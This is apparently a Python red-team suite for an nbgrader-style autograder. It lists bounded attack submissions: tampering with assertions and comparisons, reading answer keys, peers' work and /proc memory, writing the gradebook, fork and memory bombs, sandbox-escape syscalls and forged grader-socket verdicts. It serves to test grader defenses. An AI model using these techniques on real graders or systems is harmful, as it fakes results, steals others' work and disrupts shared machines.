"""The attacks. Every one is bounded in count and time, and reaches for nothing but what the stage set up.

Words in capitals with an @ before and after them are filled in by the stage: attackers know all paths and numbers.
Success is printed as BROKEN-OUT, written into the beacon folder, or shows in the points.
"""

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

STUB = "def double(X):\n    raise NotImplementedError('double')\n"
WRONG = "def double(X):\n    return X\n\ndef row_means(X):\n    return X\n"
HONEST_DOUBLE = "def double(X):\n    return 2 * X"
HONEST_MEANS = "def row_means(X):\n    return X.mean(axis=1)"


@dataclass(frozen=True)
class Attack:
    """A submission that tries to take what it has not earned.

    Attributes
    ----------
    name, family, tries : str
        What it is called, which kind it is of, and what it tries, in words.
    code : str
        Source of the first solution cell.
    honest : bool
        Whether the second exercise is solved honestly: those three points must not be lost.
    files : dict
        Further files that are handed in.
    change : callable
        Changes the notebook as JSON data, and returns it, or the bytes to hand in.
    ours_only : bool
        Whether it is aimed at this autograder's own machinery, which stock nbgrader does not have.
    slow : bool
        Whether it takes more than a few seconds.
    """

    name: str
    family: str
    tries: str
    code: str = STUB
    honest: bool = False
    files: dict[str, str] = field(default_factory=dict)
    change: Callable[[dict], dict | bytes] = lambda notebook: notebook
    ours_only: bool = False
    slow: bool = False

    def notebook(self, released: dict, fill: Callable[[str], str]) -> bytes:
        """Return the file that is handed in."""
        notebook = copy.deepcopy(released)
        for cell in notebook["cells"]:
            if cell["id"] == "double":
                cell["source"] = fill(self.code)
            if cell["id"] == "row_means" and self.honest:
                cell["source"] = HONEST_MEANS
            elif cell["id"] == "row_means" and self.code != STUB:
                cell["source"] = "pass  # the first cell defined it"
        changed = self.change(notebook)
        return changed if isinstance(changed, bytes) else json.dumps(changed).encode()


ATTACKS: list[Attack] = []


def attack(name: str, family: str, tries: str, code: str = "", **options) -> None:
    """Add an attack to the list; code that defines nothing gets wrong answers to go with it."""
    if "def double(" not in code and "double =" not in code:
        code = (STUB if options.get("honest") else WRONG) + code
    ATTACKS.append(Attack(name, family, tries, code, **options))


# --- The verdict, from inside the process ---------------------------------------------------------------------------

VERDICT = "verdict"
IS_TEST = "any('assert' in line or 'check(' in line for line in lines)"
attack(
    "delete-asserts",
    VERDICT,
    "an input transformer replaces every test by pass",
    f"get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if {IS_TEST} else lines)",
)
attack(
    "tests-become-points",
    VERDICT,
    "an input transformer replaces every test by the number of its points",
    f"get_ipython().input_transformers_cleanup.append(lambda lines: ['1.0\\n'] if {IS_TEST} else lines)",
)
attack(
    "strip-ast",
    VERDICT,
    "an AST transformer removes asserts and calls of check",
    """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if 'check(' in ast.unparse(node) else node
get_ipython().ast_transformers.append(Strip())
""",
)
attack(
    "compile-without-asserts",
    VERDICT,
    "compile is replaced by one that optimises asserts away",
    """
import builtins
real = builtins.compile
def optimising(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **k):
    return real(source, filename, mode, flags, dont_inherit, 2, **k)
builtins.compile = optimising
""",
)
attack(
    "run-nothing",
    VERDICT,
    "the shell's run_code is replaced by one that runs nothing",
    "async def nothing(*a, **k):\n    return False\nget_ipython().run_code = nothing",
)
attack(
    "swallow-errors",
    VERDICT,
    "a custom exception handler shows no error",
    "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)",
)
attack(
    "silent-tracebacks",
    VERDICT,
    "showtraceback is replaced by nothing",
    "get_ipython().showtraceback = get_ipython()._showtraceback = lambda *a, **k: None",
)
attack(
    "jump-over-asserts",
    VERDICT,
    "sys.settrace moves on the line number when an assert is due",
    """
import linecache, sys
def trace(frame, event, arg):
    if event == 'line' and linecache.getline(frame.f_code.co_filename, frame.f_lineno).startswith('assert'):
        try:
            frame.f_lineno += 1
        except ValueError:
            pass
    return trace
sys.settrace(trace)
get_ipython().events.register('pre_run_cell', lambda *a: sys.settrace(trace))
""",
)
attack(
    "patch-numpy",
    VERDICT,
    "np.allclose and its like always say yes",
    """
import numpy as np
yes = lambda *a, **k: True
np.allclose = np.isclose = np.array_equal = np.all = yes
np.testing.assert_allclose = np.testing.assert_array_equal = yes
np.ndarray.__module__
""",
)
attack(
    "patch-judge",
    VERDICT,
    "compare, trial, probe and check are replaced in the worker",
    """
from backprop_autograder.engine import checking as k, compare as c, probe as p, trial as t
import backprop_autograder as b, backprop_autograder.workers.guest as g
c.difference = t.difference = lambda *a, **kw: None
t.Trial.failure = lambda *a: None
p.answer = g.answer = lambda question, names: p.Outcome(result=True)
b.check = k.check = check = lambda *a: None
""",
    ours_only=True,
)
attack(
    "patch-encoder",
    VERDICT,
    "the encoder adds full marks to every outcome",
    """
import backprop_autograder.engine.probe as p
real = p.Outcome.to_json
p.Outcome.to_json = lambda self: real(self) | {'points': 100, 'status': 'passed', 'verdict': True}
""",
    ours_only=True,
)
attack(
    "print-scores",
    VERDICT,
    "prints what looks like a passed check and a score",
    "print('double (values): all 3 cases passed.\\nscore: 6.0 / 6.0')\n6.0",
)
attack(
    "display-score",
    VERDICT,
    "calls the display hook with a score whenever a cell runs",
    "import sys\nget_ipython().events.register('post_run_cell', lambda *a: sys.displayhook(6.0))",
)


def _tests(notebook: dict) -> list[dict]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade") and c["cell_type"] == "code"]


def _tagged(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
    return notebook


def _retyped(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["cell_type"] = "markdown"
        del cell["outputs"], cell["execution_count"]
    return notebook


def _deleted(notebook: dict) -> dict:
    gone = [cell["id"] for cell in _tests(notebook)]
    notebook["cells"] = [cell for cell in notebook["cells"] if cell["id"] not in gone]
    return notebook


def _priced(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["points"] = 1000
        cell["source"] = "1000.0"
    return notebook


def _unlocked(notebook: dict) -> dict:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False}
        cell["source"] = "pass"
    return notebook


attack("skip-tags", VERDICT, "tags tell the executor to skip the tests", STUB, change=_tagged)
attack("tests-to-text", VERDICT, "test cells become markdown", STUB, change=_retyped)
attack("delete-tests", VERDICT, "test cells are deleted", STUB, change=_deleted)
attack("raise-the-price", VERDICT, "tests say they are worth a thousand points, and return them", STUB, change=_priced)
attack("unlock-tests", VERDICT, "test cells call themselves solutions, and hold pass", STUB, change=_unlocked)

# --- Comparison -----------------------------------------------------------------------------------------------------

COMPARISON = "comparison"
BOTH = "double = row_means = answer\n"
attack(
    "operators-that-lie",
    COMPARISON,
    "an object whose every comparison and NumPy function says yes",
    f"""
class Yes:
    shape, dtype, ndim, size = (4, 3), float, 2, 12
    def __array_function__(self, *a):
        return True
    def __array_ufunc__(self, *a, **k):
        return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = lambda *a: True
    __sub__ = __rsub__ = __abs__ = __getitem__ = lambda self, *a: self
    __hash__ = None
answer = lambda X: Yes()
{BOTH}""",
)
attack(
    "array-subclass",
    COMPARISON,
    "a subclass of ndarray that answers for NumPy",
    f"""
import numpy as np
class Yes(np.ndarray):
    def __array_function__(self, *a, **k):
        return True
answer = lambda X: np.zeros(X.shape).view(Yes)
{BOTH}""",
)
attack(
    "lying-floats-in-an-object-array",
    COMPARISON,
    "an array of objects that equal everything",
    f"""
import numpy as np
class Yes(float):
    __eq__ = __le__ = __lt__ = __ge__ = lambda *a: True
    __sub__ = __rsub__ = __abs__ = lambda self, *a: self
answer = lambda X: np.array([[Yes(0)] * 3] * 4, dtype=object)
{BOTH}""",
)
attack(
    "late-array",
    COMPARISON,
    "an object that becomes an array only when it is compared",
    f"""
class Late:
    def __array__(self, *a, **k):
        import sys
        frame = sys._getframe(1)
        while frame:
            if 'expected' in frame.f_locals:
                return frame.f_locals['expected']
            frame = frame.f_back
answer = lambda X: Late()
{BOTH}""",
)
attack("nan", COMPARISON, "NaN everywhere", f"answer = lambda X: X * float('nan')\n{BOTH}")
attack("infinity", COMPARISON, "infinities everywhere", f"answer = lambda X: X * float('inf')\n{BOTH}")
attack(
    "empty",
    COMPARISON,
    "an empty result, which compares vacuously",
    f"import numpy as np\nanswer = lambda X: np.empty((0, 1, 1))\n{BOTH}",
)
attack(
    "change-the-inputs",
    COMPARISON,
    "sets the inputs to zero, so that the expected value computed from them is zero",
    f"def answer(X):\n    X[...] = 0\n    return X\n{BOTH}row_means = lambda X: answer(X)[:, 0]",
)
attack(
    "enormous-answers",
    COMPARISON,
    "an integer of 100,000 digits, a list nested 5,000 deep, a million items",
    """
def double(X):
    deep = []
    for _ in range(5000):
        deep = [deep]
    return [deep, 10 ** 100_000, [0.0] * 1_000_000]
def row_means(X):
    import numpy as np
    return np.zeros(12_000_000)
""",
)
attack(
    "reduce",
    COMPARISON,
    "an object whose unpickling runs a program in the process that reads it",
    f"""
class Bomb:
    def __reduce__(self):
        return (open, ('@BEACON@/unpickled', 'w'))
answer = lambda X: Bomb()
{BOTH}""",
)
attack(
    "other-behaviour-when-graded",
    COMPARISON,
    "behaves differently where NBGRADER_EXECUTION is set",
    """
import os
if any(name.startswith(('NBGRADER', 'BACKPROP', 'JPY')) for name in os.environ):
    print('BROKEN-OUT environment tells that this is grading')
""",
)

# --- Secrets --------------------------------------------------------------------------------------------------------

SECRETS = "secrets"
EXEC_CELLS = """
import json
for cell in json.load(open({path!r}))['cells']:
    source = ''.join(cell['source'])
    if 'def double' in source or 'def row_means' in source:
        exec(source)
"""
attack(
    "read-the-source",
    SECRETS,
    "takes the solutions from the instructor's notebook in the course folder",
    EXEC_CELLS.format(path="@COURSE@/source/01_toy/01_toy.ipynb"),
)
attack(
    "read-a-peer",
    SECRETS,
    "takes the solutions from another student's submission",
    EXEC_CELLS.format(path="@COURSE@/submitted/peer/01_toy/01_toy.ipynb"),
)
attack(
    "import-the-answer-key",
    SECRETS,
    "imports the answer key, or looks for it in everything that Python knows",
    """
import importlib, sys
from pathlib import Path
for name in ('toy_key.toy', 'backprop_solutions.chain_rule'):
    try:
        module = importlib.import_module(name)
        print('BROKEN-OUT', name)
        double, row_means = module.double, module.row_means
    except (ImportError, AttributeError):
        pass
for folder in {*sys.path, *sys.path_importer_cache, '@KEYS@', '@KEYS@/..', '@SOLUTIONS@'}:
    for name in ('toy_key/toy.py', 'backprop_solutions/chain_rule.py', 'toy.py'):
        try:
            source = Path(folder, name).read_text()
            print('BROKEN-OUT', name, len(source))
            exec(source)
        except Exception:
            pass
""",
)
attack(
    "read-everything",
    SECRETS,
    "prints the gradebook, the judge's secret, the home folder and a peer's work",
    """
import os
for top in ('@COURSE@', '@HOME@', '@BEACON@/..'):
    for folder, _, names in os.walk(top):
        for name in names:
            print(open(os.path.join(folder, name), 'rb').read().decode('latin-1')[:20_000])
for path in ('@COURSE@/gradebook.db', '@COURSE@/judge.secret', '@HOME@/private.txt'):
    try:
        print(open(path, 'rb').read().decode('latin-1')[:100_000])
    except OSError as error:
        print(type(error).__name__)
""",
)
attack(
    "follow-symlinks",
    SECRETS,
    "symbolic links lead out of the scratch folder",
    """
import os
for number, path in enumerate(['@COURSE@/judge.secret', '@HOME@/private.txt']):
    os.symlink(path, f'link{number}')
    try:
        print(open(f'link{number}').read())
    except OSError as error:
        print(type(error).__name__)
""",
)
attack(
    "environments-and-memory",
    SECRETS,
    "reads environment, memory, command line and files of all processes in /proc",
    """
import glob, os
for pid in ['self', 'thread-self', str(os.getppid()), '@VICTIM@', '@GRADER@']:
    for name in ('environ', 'cmdline'):
        try:
            print(open(f'/proc/{pid}/{name}', 'rb').read().decode('latin-1')[:50_000])
        except OSError:
            pass
    try:
        with open(f'/proc/{pid}/mem', 'r+b') as memory, open(f'/proc/{pid}/maps') as maps:
            if pid in ('@VICTIM@', '@GRADER@'):
                print('BROKEN-OUT memory of', pid)
    except OSError:
        pass
print(sorted(os.environ.items()))
""",
)
attack(
    "ptrace",
    SECRETS,
    "traces another process, and reads its memory",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (@VICTIM@,):
    if libc.ptrace(16, pid, None, None) == 0:
        print('BROKEN-OUT traced', pid)
        os.waitpid(pid, 0x40000000)
        libc.ptrace(17, pid, None, None)
    buffer = ctypes.create_string_buffer(8)
    class Vector(ctypes.Structure):
        _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
    here, there = Vector(ctypes.addressof(buffer), 8), Vector(0x400000, 8)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print('BROKEN-OUT read', pid)
""",
)
attack(
    "read-the-test",
    SECRETS,
    "reads the hidden test in In[-1], and evaluates what it expects",
    """
def answer(X):
    import re
    text = get_ipython().user_ns['In'][-1]
    (found,) = set(re.findall(r'allclose\\(double\\(X\\), (.*)\\)', text) or re.findall(r'expected = (.*)', text))
    return eval(found, {'X': X})
double = row_means = answer
""",
)
attack(
    "hunt-in-frames",
    SECRETS,
    "looks for the expected value in the frames of its callers and in all objects that gc knows",
    """
import gc, sys
def answer(X):
    frame, words = sys._getframe(1), ('expected', 'reference', 'solution', 'want', 'trial')
    while frame:
        for word in words:
            if word in frame.f_locals:
                return frame.f_locals[word]
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) is dict and 'expected' in thing:
            return thing['expected']
double = row_means = answer
""",
)
attack(
    "foresee-the-cases",
    SECRETS,
    "answers from a table of what it was asked before, and from the pack beside the notebook",
    """
import json
try:
    for exercise in json.load(open('checks.json'))['exercises'].values():
        print('BROKEN-OUT the pack is here')
except OSError:
    pass
table = {}
def answer(X):
    return table.setdefault(X.tobytes(), X)
double = row_means = answer
""",
)

# --- Others: peers, course, grader ----------------------------------------------------------------------------------

OTHERS = "others"
attack(
    "gradebook",
    OTHERS,
    "writes full marks into the gradebook",
    """
import sqlite3
try:
    with sqlite3.connect('@COURSE@/gradebook.db', timeout=2) as book:
        book.execute('UPDATE grade SET manual_score = 1000')
    print('BROKEN-OUT gradebook written')
except sqlite3.Error as error:
    print(type(error).__name__)
""",
)
attack(
    "overwrite",
    OTHERS,
    "overwrites, renames and removes files of the course and of peers",
    """
import os
peer = '@COURSE@/submitted/peer/01_toy/01_toy.ipynb'
for act in (lambda: open(peer, 'w').write('{}'), lambda: os.truncate(peer, 0), lambda: os.remove(peer),
            lambda: os.rename('@COURSE@/source/01_toy', '@COURSE@/source/02_toy'),
            lambda: os.link('@HOME@/private.txt', '@BEACON@/linked'),
            lambda: open('@HOME@/private.txt', 'a').write('x'), lambda: os.mkdir('@BEACON@/new')):
    try:
        act()
    except OSError:
        pass
""",
)
attack(
    "metadata",
    OTHERS,
    "changes modes, owners, times and attributes of files that it cannot open",
    """
import os
for path in ('@COURSE@/submitted/peer/01_toy/01_toy.ipynb', '@HOME@/private.txt', '@COURSE@'):
    for act in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (0, 0)), lambda: os.chown(path, 65534, 65534),
                lambda: os.setxattr(path, 'user.canary', b'1')):
        try:
            act()
        except OSError:
            pass
""",
)
attack(
    "detached-process",
    OTHERS,
    "a process detached by setsid and two forks acts when the grading is over",
    """
import os, time
if not os.fork():
    os.setsid()
    if not os.fork():
        for _ in range(40):
            time.sleep(0.1)
            open('@BEACON@/detached', 'a').write('still here')
        os._exit(0)
    os._exit(0)
""",
)
attack(
    "startup-files",
    OTHERS,
    "plants startup files of IPython and Python for the next student's kernel",
    """
import os
payload = "open('@BEACON@/startup', 'w').close()"
for folder in ('@HOME@/.ipython/profile_default/startup', os.path.expanduser('~/.ipython/profile_default/startup'),
               '@HOME@/.local/lib/python3.11/site-packages', '@HOME@/.config/matplotlib'):
    for name in ('00-next.py', 'usercustomize.py', 'sitecustomize.py'):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), 'w').write(payload)
        except OSError:
            pass
""",
)
attack(
    "shadowing-files",
    OTHERS,
    "hands in a numpy.py and a backprop_autograder.py that say yes",
    "import numpy as np\nif hasattr(np, 'lying'):\n    print('BROKEN-OUT numpy is shadowed')\n",
    files={
        "numpy.py": "lying = True\nallclose = lambda *a, **k: True\n"
        "arange = ones = lambda *a, **k: type('A', (), {'reshape': lambda *a: 0, 'mean': lambda *a, **k: 0})()\n"
        "class random:\n    default_rng = lambda *a: type('R', (), {'normal': lambda *a, **k: arange()})()\n",
        "backprop_autograder.py": "check = lambda *a: None\n",
    },
)
attack(
    "shadow-for-later",
    OTHERS,
    "writes modules into the scratch folder that a later import would find",
    """
for name in ('json', 'socket', 'struct', 'inspect', 'random', 'toy_key', 'backprop_course'):
    open(f'{name}.py', 'w').write("open('@BEACON@/shadow', 'w').close()")
""",
)
attack(
    "kill-the-parent",
    OTHERS,
    "kills its parent process, and the grader",
    "import os\nfor pid in (os.getppid(), @GRADER@):\n    if pid > 1:\n        os.kill(pid, 9)",
    honest=True,
)
attack(
    "kill-a-bystander",
    OTHERS,
    "kills another process of the grader's user",
    """
import os, signal
for act in (lambda: os.kill(@VICTIM@, 9), lambda: os.killpg(@VICTIM@, 9),
            lambda: signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), 9)):
    try:
        act()
    except OSError:
        pass
""",
)
attack(
    "starve-a-bystander",
    OTHERS,
    "lowers another process's limits and priority",
    """
import os, resource
for act in (lambda: resource.prlimit(@VICTIM@, resource.RLIMIT_CPU, (1, 1)),
            lambda: os.setpriority(os.PRIO_PROCESS, @VICTIM@, 19), lambda: os.sched_setaffinity(@VICTIM@, {0})):
    try:
        act()
        print('BROKEN-OUT limits of another process')
    except (OSError, ValueError):
        pass
""",
)
attack(
    "network",
    OTHERS,
    "connects to a listener on 127.0.0.1, sends a datagram, uses local sockets",
    """
import socket
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('127.0.0.1', @PORT@))
def local():
    socket.socket(socket.AF_UNIX).connect('@UNIX@')
def pair():
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'hello', '@UNIX@.dgram')
def tcp():
    socket.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'hello')
for act in (tcp, udp, local, pair):
    try:
        act()
    except OSError:
        pass
""",
)
attack(
    "run-programs",
    OTHERS,
    "runs a shell",
    """
import os, subprocess
for act in (lambda: os.system('touch @BEACON@/shell'), lambda: subprocess.run(['touch', '@BEACON@/program']),
            lambda: os.posix_spawn('/bin/sh', ['sh', '-c', 'touch @BEACON@/spawn'], {})):
    try:
        act()
    except OSError:
        pass
""",
)
attack(
    "leave-the-sandbox",
    OTHERS,
    "mounts, unshares, changes root, loads BPF, opens handles, raises limits",
    """
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
for name, act in {
    'unshare': lambda: libc.unshare(0x10000000), 'mount': lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None),
    'chroot': lambda: libc.chroot(b'/'), 'setns': lambda: libc.setns(os.open('/proc/self/ns/net', 0), 0),
    'bpf': lambda: libc.syscall(321, 0, None, 0), 'io_uring': lambda: libc.syscall(425, 1, None),
    'setuid': lambda: libc.setuid(0) if os.getuid() else -1,
    'limits': lambda: resource.setrlimit(resource.RLIMIT_AS, (1 << 50, 1 << 50)) or 0,
}.items():
    try:
        if act() >= 0:
            print('BROKEN-OUT', name)
    except (OSError, ValueError):
        pass
""",
)

# --- The batch: crashes, hangs, bombs, floods, damaged files ----------------------------------------------------------

BATCH = "batch"
attack("exit", BATCH, "os._exit", "import os\nos._exit(0)", honest=True)
attack("kill-itself", BATCH, "a segmentation fault", "import ctypes\nctypes.string_at(0)", honest=True)
attack(
    "recursion",
    BATCH,
    "recursion without end, and without Python's limit",
    "import sys\nsys.setrecursionlimit(10**9)\ndef down(n):\n    return down(n + 1)\ndown(0)",
    honest=True,
)
attack("sleep", BATCH, "sleeps for an hour", "import time\ntime.sleep(3600)", honest=True)
attack(
    "ignore-interrupts",
    BATCH,
    "an endless loop that ignores SIGINT",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    honest=True,
)
attack(
    "swallow-interrupts",
    BATCH,
    "an endless loop that catches KeyboardInterrupt",
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
    honest=True,
)
attack(
    "long-computation",
    BATCH,
    "one enormous power, which no signal interrupts",
    "x = 3 ** (10 ** 9)",
    honest=True,
)
attack(
    "hang-when-asked",
    BATCH,
    "the function itself hangs, and ignores interrupts",
    "def double(X):\n    while True:\n        try:\n            while True:\n                pass\n"
    "        except BaseException:\n            pass",
    honest=True,
)
attack(
    "exit-when-asked",
    BATCH,
    "the function itself ends the process",
    "def double(X):\n    import os\n    os._exit(1)",
    honest=True,
)
attack(
    "memory-bomb",
    BATCH,
    "takes three gigabytes of memory",
    "import numpy as np\nhoard = [np.ones(8 << 20) for _ in range(48)]\nprint('BROKEN-OUT 3 GB')",
    honest=True,
)
attack(
    "fork-bomb",
    BATCH,
    "starts 150 processes",
    """
import os, time
for _ in range(150):
    if not os.fork():
        time.sleep(3)
        os._exit(0)
print('BROKEN-OUT 150 processes')
""",
    honest=True,
)
attack(
    "thread-bomb",
    BATCH,
    "starts a thousand threads",
    """
import threading, time
for _ in range(1000):
    threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
print('BROKEN-OUT 1000 threads')
""",
    honest=True,
)
attack("one-long-line", BATCH, "100 MB of output on one line", "print('x' * 100_000_000)", honest=True)
attack(
    "output-flood",
    BATCH,
    "300 MB of output in lines, also past Python",
    "import os\nfor _ in range(300):\n    print('y' * 1_000_000)\n    os.write(1, b'z' * 10_000)",
    honest=True,
)
attack(
    "display-storm",
    BATCH,
    "twenty thousand displays, with updates",
    "from IPython.display import display\nfor k in range(20_000):\n    display(k, display_id='one', update=k > 0)",
    honest=True,
)
attack(
    "fill-the-disk",
    BATCH,
    "writes 250 MB in files",
    "for k in range(10):\n    with open(f'fill{k}', 'wb') as f:\n        f.write(bytes(25 << 20))\n"
    "print('BROKEN-OUT 250 MB written')",
    honest=True,
)
attack(
    "descriptors",
    BATCH,
    "opens files without end, then closes every descriptor",
    "import os\nfiles = []\ntry:\n    for k in range(5000):\n        files.append(open('/dev/null'))\n"
    "except OSError:\n    pass\nos.closerange(0, 6000)",
    honest=True,
)
attack(
    "deep-folders",
    BATCH,
    "nests two thousand folders, the last without rights",
    "import os\nfor _ in range(2000):\n    os.mkdir('d')\n    os.chdir('d')\nos.mkdir('locked', 0)",
    honest=True,
)


def _duplicated(notebook: dict) -> dict:
    notebook["cells"] += copy.deepcopy(notebook["cells"])
    return notebook


def _renamed(notebook: dict) -> dict:
    for number, cell in enumerate(notebook["cells"]):
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["grade_id"] = cell["id"] = f"renamed-{number}"
    return notebook


def _odd_metadata(notebook: dict) -> dict:
    for cell, odd in zip(_tests(notebook), ({}, {"schema_version": 99}, []), strict=True):
        cell["metadata"]["nbgrader"] = odd
    return notebook


def _foreign_kernel(notebook: dict) -> dict:
    notebook["metadata"]["kernelspec"] = {"name": "../../evil", "display_name": "R", "language": "R"}
    return notebook


def _odd_types(notebook: dict) -> dict:
    notebook["cells"] += [7, None, {"cell_type": 3, "source": {"a": 1}}, {"cell_type": "code", "source": "\ud800"}]
    notebook["nbformat"] = "four"
    return notebook


DAMAGED = "damaged files"
attack("duplicated-cells", DAMAGED, "every cell twice", honest=True, change=_duplicated)
attack("renamed-cells", DAMAGED, "every id renamed", honest=True, change=_renamed)
attack("odd-metadata", DAMAGED, "nbgrader metadata empty, of version 99, a list", honest=True, change=_odd_metadata)
attack("foreign-kernel", DAMAGED, "a kernelspec that is a path", honest=True, change=_foreign_kernel)
attack("odd-types", DAMAGED, "numbers for cells, half a character for a source", honest=True, change=_odd_types)
attack("corrupt-json", DAMAGED, "half a notebook", STUB, change=lambda notebook: json.dumps(notebook).encode()[:500])
attack("nested-json", DAMAGED, "brackets nested 100,000 deep", STUB, change=lambda notebook: b"[" * 100_000)
attack("not-text", DAMAGED, "bytes that are no text", STUB, change=lambda notebook: bytes(range(256)) * 100)

# --- The transport: what the worker says to the grader ----------------------------------------------------------------

TRANSPORT = "transport"
CHANNEL = """
import gc, json, os, socket, struct, sys, time
channel = next(o for o in gc.get_objects() if isinstance(o, socket.socket))
def frame(data):
    body = data if isinstance(data, bytes) else json.dumps(data).encode()
    return struct.pack('>I', len(body)) + body
def request():
    frame = sys._getframe(1)
    while frame:
        if isinstance(frame.f_locals.get('request'), dict):
            return frame.f_locals['request']
        frame = frame.f_back
"""


def transport(name: str, tries: str, body: str, **options) -> None:
    """Add an attack that writes to the grader's socket itself."""
    attack(name, TRANSPORT, tries, CHANNEL + body, ours_only=True, **options)


transport(
    "forged-verdict",
    "replies to the question itself, with full marks",
    """
def answer(X):
    channel.sendall(frame({'id': request()['id'], 'verdict': 'passed', 'points': 100, 'outcomes': [{'passed': True}]}))
double = row_means = answer
""",
)
transport(
    "forged-outcome",
    "replies with an outcome of its own: no calls, no warnings, any result",
    """
def answer(X):
    outcome = {'result': True, 'error': [], 'message': '', 'warnings': [], 'mutated': [], 'calls': {}, 'line': ''}
    channel.sendall(frame({'id': request()['id'], 'outcomes': [outcome] * 99}))
double = row_means = answer
""",
)
transport(
    "replies-ahead",
    "sends replies before they are asked for",
    "for k in range(200):\n    channel.sendall(frame({'id': str(k), 'outcomes': [{'result': 1.0}] * 99}))",
)
transport(
    "enormous-frame",
    "announces a message of four gigabytes",
    "channel.sendall(b'\\xff' * 100_000)\ntime.sleep(30)",
    honest=True,
)
transport("malformed-frame", "sends what is no JSON", "channel.sendall(frame(b'{nonsense'))", honest=True)
transport(
    "nested-frame",
    "brackets nested 100,000 deep",
    "channel.sendall(frame(b'[' * 100_000 + b']' * 100_000))",
    honest=True,
)
transport(
    "five-million-lists",
    "ten megabytes that take half a gigabyte when decoded",
    "channel.sendall(frame(b'[' + b'[],' * 3_300_000 + b'[]]'))",
    honest=True,
)
transport(
    "colliding-keys",
    "a set of numbers chosen to collide, which takes hours to build",
    """
def answer(X):
    keys = [k * (2**61 - 1) for k in range(200_000)]
    empty = {'error': [], 'message': '', 'warnings': [], 'mutated': [], 'calls': {}, 'line': ''}
    outcome = {'result': {'set': keys}, **empty}
    channel.sendall(frame({'id': request()['id'], 'outcomes': [outcome] * 99}))
double = row_means = answer
""",
)
transport(
    "empty-array-of-a-billion-rows",
    "an array without a byte that is a billion lists when unpacked",
    """
def answer(X):
    result = {'array': ['<f8', [10**9, 0], '']}
    outcome = {'result': result, 'error': [], 'message': '', 'warnings': [], 'mutated': [], 'calls': {}, 'line': ''}
    channel.sendall(frame({'id': request()['id'], 'outcomes': [outcome] * 99}))
double = row_means = answer
""",
)
transport(
    "endless-small-frames",
    "messages without end, each valid",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    channel.sendall(frame({}))",
    honest=True,
)
transport(
    "slow-drip",
    "a reply of one byte every tenth of a second, for ever",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nchannel.sendall(struct.pack('>I', 1 << 20))\n"
    "while True:\n    channel.sendall(b' ')\n    time.sleep(0.1)",
    honest=True,
)
transport("close-the-socket", "closes the socket and goes on", "channel.close()\ntime.sleep(30)", honest=True)
transport(
    "deaf",
    "never reads again, while the next cells are sent",
    "import backprop_autograder.workers.guest as g\ng.receive = lambda *a: time.sleep(30)",
    slow=True,
)
transport(
    "send-descriptors",
    "sends open files along with its messages",
    "import array\nchannel.sendmsg([frame({})], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0] * 50))])",
    honest=True,
)
transport(
    "outputs-that-bite",
    "outputs with scripts, wrong types, lone surrogates and fifty thousand entries",
    """
outputs = [{'output_type': 'display_data', 'data': {'text/html': '<script>', 'text/plain': '\\ud800'}, 'metadata': 3},
           {'output_type': 'stream', 'text': {'a': 1}}, {'output_type': 'error', 'traceback': 5, 'ename': []}]
channel.sendall(frame({'id': request()['id'], 'outputs': outputs * 17_000}))
""",
    honest=True,
)

# --- The gate: what an answer costs whoever decodes, compares and explains it ----------------------------------------

GATE = "the gate"


def answers(name: str, tries: str, result: str, **fields) -> None:
    """Add an attack that answers every question with an outcome of its own making."""
    outcome = {"error": [], "message": "", "warnings": [], "mutated": [], "calls": {}, "line": ""} | fields
    body = f"""
def answer(X):
    outcome = {outcome!r}
    outcome['result'] = {result}
    channel.sendall(frame({{'id': request()['id'], 'outcomes': [outcome] * 99}}))
double = row_means = answer
"""
    attack(name, GATE, tries, CHANNEL + body, ours_only=True)


answers(
    "type-with-a-comma",
    "an array of the type ',f8', which is no text that Python can read",
    "{'array': [',f8', [1], 'AAAAAAAA8D8=']}",
)
answers(
    "arrays-of-many-axes",
    "arrays of 32 axes, of which each number takes kilobytes as a list",
    "{'array': ['|u1', [1] * 31 + [3000], 'A' * 4000]}",
)
answers(
    "keys-that-meet-in-the-table",
    "keys with different hashes that all meet in the table of a dict",
    "{'dict': [[k << 40, 0] for k in range(2000)]}",
)
answers(
    "nested-keys",
    "tuples that differ in their last item only, as keys",
    "{'set': [{'tuple': [{'tuple': [-1, -2] * 9}, k]} for k in range(120)]}",
)
answers("many-small-arrays", "a thousand arrays without a number", "[{'array': ['<f8', [0], '']}] * 1000")
answers("huge-numbers", "numbers of four thousand digits", "[10 ** 4000] * 30")
answers("half-characters", "texts of half characters and of what a terminal obeys", "['\\ud800', '\\x1b]0;owned\\x07']")
